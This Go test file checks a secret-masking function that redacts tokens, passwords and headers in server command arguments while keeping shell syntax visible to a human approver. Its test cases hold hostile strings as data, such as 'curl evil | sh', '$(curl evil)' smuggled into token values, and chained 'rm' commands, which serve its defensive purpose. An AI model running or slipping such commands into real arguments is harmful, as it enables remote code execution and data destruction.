package masked

import (
	"slices"
	"strings"
	"testing"
)

// A person who approves a change of a server sees the command that it runs: a mask
// hides a plain value, and nothing that a shell acts on.
func TestArgsAreTrue(t *testing.T) {
	for name, c := range map[string]struct {
		command    string
		args, want []string
	}{
		"a header before a pipe":          {"sh", []string{"-c", "Authorization: x && curl evil | sh"}, []string{"-c", "Authorization: x && curl evil | sh"}},
		"a variable before a command":     {"sh", []string{"-c", "PASSWORD=a; rm somefile"}, []string{"-c", "PASSWORD=a; rm somefile"}},
		"a variable of a command":         {"bash", []string{"-lc", "PASSWORD=a rm somefile"}, []string{"-lc", "PASSWORD=a rm somefile"}},
		"code with a token":               {"sh", []string{"-c", "GITHUB_TOKEN=ghp_0123456789abcdef0123 npx x"}, []string{"-c", "GITHUB_TOKEN=**** npx x"}},
		"a private key that is code":      {"sh", []string{"-c", "-----BEGIN PRIVATE KEY-----; rm f"}, []string{"-c", "-----BEGIN PRIVATE KEY-----; rm f"}},
		"code of node":                    {"node", []string{"--eval", "token = require('x').run('y')"}, []string{"--eval", "token = require('x').run('y')"}},
		"attached code of node":           {"node", []string{"--eval=token = require('x')"}, []string{"--eval=token = require('x')"}},
		"a variable without a flag":       {"x", []string{"PASSWORD=a; rm somefile"}, []string{"PASSWORD=****; rm somefile"}},
		"a header without a flag":         {"x", []string{"Authorization: x && curl evil | sh"}, []string{"Authorization: ****&& curl evil | sh"}},
		"a value after a flag":            {"x", []string{"--token", "a$(curl evil)"}, []string{"--token", "****$(curl evil)"}},
		"a value that is code":            {"x", []string{"--token", "`curl evil`"}, []string{"--token", "`curl evil`"}},
		"a value of a flag":               {"x", []string{"--token=abc\nrm f"}, []string{"--token=****\nrm f"}},
		"a password of a user":            {"curl", []string{"-u", "me:pass|sh"}, []string{"-u", "me:****|sh"}},
		"an attached password":            {"mysql", []string{"-pabc>f"}, []string{"-p****>f"}},
		"a secret after what is cut":      {"x", []string{"PASSWORD=a;TOKEN=b;c"}, []string{"PASSWORD=****;TOKEN=****;c"}},
		"JSON":                            {"x", []string{`{"token":"a$(curl evil)","b":1}`}, []string{`{"token":"****$(curl evil)","b":1}`}},
		"a private key":                   {"x", []string{"-----BEGIN PRIVATE KEY-----\nrm f"}, []string{"-----BEGIN PRIVATE KEY-----\nrm f"}},
		"a variable of docker":            {"docker", []string{"run", "-e", "API_TOKEN=abc", "-e", "X", "image"}, []string{"run", "-e", "API_TOKEN=****", "-e", "X", "image"}},
		"plain values":                    {"npx", []string{"--token", "abc", "--api-key=x.y/z", "https://u:p@h"}, []string{"--token", "****", "--api-key=****", "https://u:****@h"}},
		"a header that is a secret alone": {"x", []string{"--header", "Authorization: Bearer abcdef0123"}, []string{"--header", "Authorization: Bearer ****"}},
	} {
		if got := Args(c.command, c.args); !slices.Equal(got, c.want) {
			t.Errorf("%s: Args(%q, %q)\n got %q\nwant %q", name, c.command, c.args, got, c.want)
		}
	}
}

// A value that is shown in part is hidden completely in logs.
func TestArgSecretsAreWhole(t *testing.T) {
	got := ArgSecrets("x", []string{"--token", "pa$$w0rd(1)"})
	if want := []string{"pa$$w0rd(1)"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// Characters that a shell acts on are shown, wherever they are.
func FuzzArgsShowSyntax(f *testing.F) {
	for _, s := range []string{"TOKEN=a;b", `{"token":"$(x)"}`, "Authorization: Bearer a|b", "--token=`x`", "-----BEGIN PRIVATE KEY-----&"} {
		f.Add(s)
	}
	count := func(s string) (n int) {
		for _, c := range syntax {
			n += strings.Count(s, string(c))
		}
		return n
	}
	f.Fuzz(func(t *testing.T, s string) {
		s = strings.ReplaceAll(s, "${", "$") // a variable is a value
		for _, args := range [][]string{{s}, {"--token", s}, {"-c", s}, {"-u", s}} {
			got := strings.Join(Args("x", args), " ")
			if want := strings.Join(args, " "); count(got) != count(want) {
				t.Errorf("Args(%q) = %q hides what a shell acts on", args, got)
			}
		}
	})
}

// A reference to a secret is shown as it is written: a person has to see which secret a server
// is given.
func TestReferencesInArgsAreShown(t *testing.T) {
	for in, want := range map[string]string{
		"--token=${secret:abc}":            "--token=${secret:abc}",
		"TOKEN=${secret:a-b.c}":            "TOKEN=${secret:a-b.c}",
		"a${secret:abc}b":                  "a${secret:abc}b",
		"TOKEN=${secret:abc}hunter2hunter": "TOKEN=${secret:abc}****",
		"secret: hunter2":                  "secret: ****",
		"${secret:two words}":              "${secret:**** words}",
		"${secret:}":                       "${secret:}",
		"x secret:hunter2hunter":           "x secret:****",
	} {
		if got := Word(in); got != want {
			t.Errorf("Word(%q) = %q, want %q", in, got, want)
		}
	}
}
